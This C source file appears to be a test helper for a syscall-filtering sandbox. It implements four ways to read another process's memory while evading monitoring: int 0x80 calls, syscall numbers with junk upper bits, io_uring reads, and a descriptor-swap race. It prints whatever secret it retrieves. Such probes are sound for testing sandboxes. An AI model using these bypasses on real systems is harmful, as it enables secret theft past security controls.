/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Doors that Go does not open: system calls by the 32-bit entry, io_uring, and a
 * descriptor that is exchanged while it is read. Prints the secret where it got it.
 *
 *	doors DOOR PID ADDRESS LENGTH
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/io_uring.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

static int failed(const char *what)
{
	printf("failed: %s: %m\n", what);
	return 1;
}

static int open_mem(const char *pid)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	return open(path, O_RDONLY);
}

#ifdef __x86_64__
static long int80(long nr, long a, long b, long c, long d, long e, long f)
{
	long result;

	asm volatile("push %%rbp\n\tmov %[f], %%rbp\n\tint $0x80\n\tpop %%rbp"
		     : "=a"(result)
		     : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e), [f] "r"(f)
		     : "memory", "r8", "r9", "r10", "r11");
	return (int)result;
}

struct low {
	uint32_t local[2];
	uint32_t remote[2];
	char buffer[64];
};

static int door_int80(int reads, const char *pid, uint64_t address, size_t len)
{
	struct low *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			       MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long got;

	if (reads) { /* pread64 */
		int mem = open_mem(pid);

		if (mem < 0)
			return failed("open");
		got = int80(180, mem, (long)low->buffer, len, (uint32_t)address, address >> 32, 0);
	} else { /* process_vm_readv */
		low->local[0] = (uintptr_t)low->buffer;
		low->local[1] = low->remote[1] = len;
		low->remote[0] = address;
		got = int80(347, atoi(pid), (long)low->local, 1, (long)low->remote, 1, 0);
	}
	if (got != (long)len)
		return failed("int 0x80");
	puts(low->buffer);
	return 0;
}
#endif

#ifdef __x86_64__
/* process_vm_readv by a number whose upper half is noise: the kernel takes the lower. */
static int door_high(const char *pid, uint64_t address, size_t len)
{
	char buffer[64] = {};
	struct iovec local = {buffer, len}, remote = {(void *)address, len};
	long target = atoi(pid);
	register long liovcnt asm("rdx") = 1;
	register void *rvec asm("r10") = &remote;
	register long riovcnt asm("r8") = 1;
	register long flags asm("r9") = 0;
	long got = __NR_process_vm_readv | 0x5ull << 32;

	asm volatile("syscall"
		     : "+a"(got)
		     : "D"(target), "S"(&local), "r"(liovcnt), "r"(rvec), "r"(riovcnt), "r"(flags)
		     : "memory", "rcx", "r11");
	if (got != (long)len)
		return failed("process_vm_readv");
	puts(buffer);
	return 0;
}
#endif

static int door_uring(unsigned char flags, const char *pid, uint64_t address, size_t len)
{
	struct io_uring_params params = {};
	int ring = syscall(__NR_io_uring_setup, 1, &params), mem = open_mem(pid);
	static char buffer[64];
	struct io_uring_sqe *sqe;
	struct io_uring_cqe *cqe;
	unsigned int *tail;
	char *rings;

	if (ring < 0) {
		puts("unsupported");
		return 3;
	}
	if (mem < 0)
		return failed("open");
	rings = mmap(NULL, params.cq_off.cqes + params.cq_entries * sizeof(*cqe) + 4096,
		     PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	sqe = mmap(NULL, sizeof(*sqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
	if (rings == MAP_FAILED || sqe == MAP_FAILED)
		return failed("mmap");
	*sqe = (struct io_uring_sqe){
		.opcode = IORING_OP_READ,
		.flags = flags,
		.fd = mem,
		.addr = (uintptr_t)buffer,
		.len = len,
		.off = address,
	};
	*(unsigned int *)(rings + params.sq_off.array) = 0;
	tail = (unsigned int *)(rings + params.sq_off.tail);
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return failed("io_uring_enter");
	cqe = (struct io_uring_cqe *)(rings + params.cq_off.cqes);
	if (cqe->res != (int)len)
		return failed("read");
	puts(buffer);
	return 0;
}

static int shown, harmless;

/* Puts a harmless file of procfs in the place of the descriptor, again and again. */
static void *exchange(void *arg)
{
	for (;;) {
		dup2(harmless, shown);
		dup2(*(int *)arg, shown);
	}
	return NULL;
}

static int door_race(const char *pid, uint64_t address, size_t len)
{
	char buffer[64] = {};
	pthread_t thread;
	int mem = open_mem(pid);

	if (mem < 0)
		return failed("open");
	shown = dup(mem);
	harmless = open("/proc/self/status", O_RDONLY);
	pthread_create(&thread, NULL, exchange, &mem);
	for (int i = 0; i < 100000; i++) {
		if (pread(shown, buffer, len, address) == (ssize_t)len &&
		    strncmp(buffer, "Name:", 5)) {
			puts(buffer);
			return 0;
		}
	}
	return failed("race");
}

int main(int argc, char **argv)
{
	uint64_t address;
	size_t len;

	if (argc != 5)
		return 2;
	address = strtoull(argv[3], NULL, 10);
	len = strtoul(argv[4], NULL, 10);
	if (!strcmp(argv[1], "uring"))
		return door_uring(0, argv[2], address, len);
	if (!strcmp(argv[1], "uring-worker"))
		return door_uring(IOSQE_ASYNC, argv[2], address, len);
	if (!strcmp(argv[1], "race"))
		return door_race(argv[2], address, len);
#ifdef __x86_64__
	if (!strcmp(argv[1], "high-vm"))
		return door_high(argv[2], address, len);
	if (!strcmp(argv[1], "int80-vm"))
		return door_int80(0, argv[2], address, len);
	if (!strcmp(argv[1], "int80-mem"))
		return door_int80(1, argv[2], address, len);
#endif
	puts("unsupported");
	return 3;
}
